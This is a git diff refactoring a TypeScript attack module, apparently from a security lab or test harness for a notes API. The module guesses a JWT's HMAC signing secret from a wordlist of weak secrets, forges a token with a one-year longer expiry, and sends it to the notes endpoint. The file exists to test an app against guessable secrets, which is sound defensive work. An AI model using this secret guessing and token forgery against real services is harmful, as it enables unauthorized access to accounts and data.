@@ -1,6 +1,7 @@
 import { createHmac, randomBytes } from 'node:crypto'
 import { now } from '../clock.ts'
-import { type AttackContext, type AttackRequest, type AttackRun, askAndListen, attemptAtRate } from './attack.ts'
+import { type AttackContext, type AttackRequest, type AttackRun, attemptAtRate, request } from './attack.ts'
+import { forge } from './forgeries.ts'
 
 const words =
   'secret password changeme jwt key admin test token default private dev production example koa notes api lab demo auth my super app user the hello world'.split(
@@ -19,11 +20,10 @@ export async function guessableSecret({ token, pool }: AttackContext) {
   const search = searchFor(token)
   let forged: string | undefined
   return (run: AttackRun) =>
-    attemptAtRate(run, (): AttackRequest => {
+    attemptAtRate(run, () => {
       if (search.found === undefined) return offline(search)
       forged ??= withLongerLife(token, search.found)
-      const request = { method: 'GET', path: '/data/notes?limit=1', token: forged } as const
-      return { what: 'a forged token', send: (signal) => askAndListen(pool, { ...request, signal }) }
+      return request('a forged token', pool, { method: 'GET', path: '/data/notes?limit=1', token: forged })
     })
 }
 
@@ -63,10 +63,8 @@ function searchFor(token: string): Search {
 }
 
 function withLongerLife(token: string, secret: string): string {
-  const [head = '', payload = ''] = token.split('.')
-  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as { exp: number }
-  const longer = Buffer.from(JSON.stringify({ ...claims, exp: claims.exp + 31_536_000 })).toString('base64url')
-  return `${head}.${longer}.${sign(`${head}.${longer}`, secret)}`
+  const claims = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as { exp: number }
+  return forge({ ...claims, exp: claims.exp + 31_536_000 }, secret)
 }
 
 function sign(signed: string, secret: string): string {
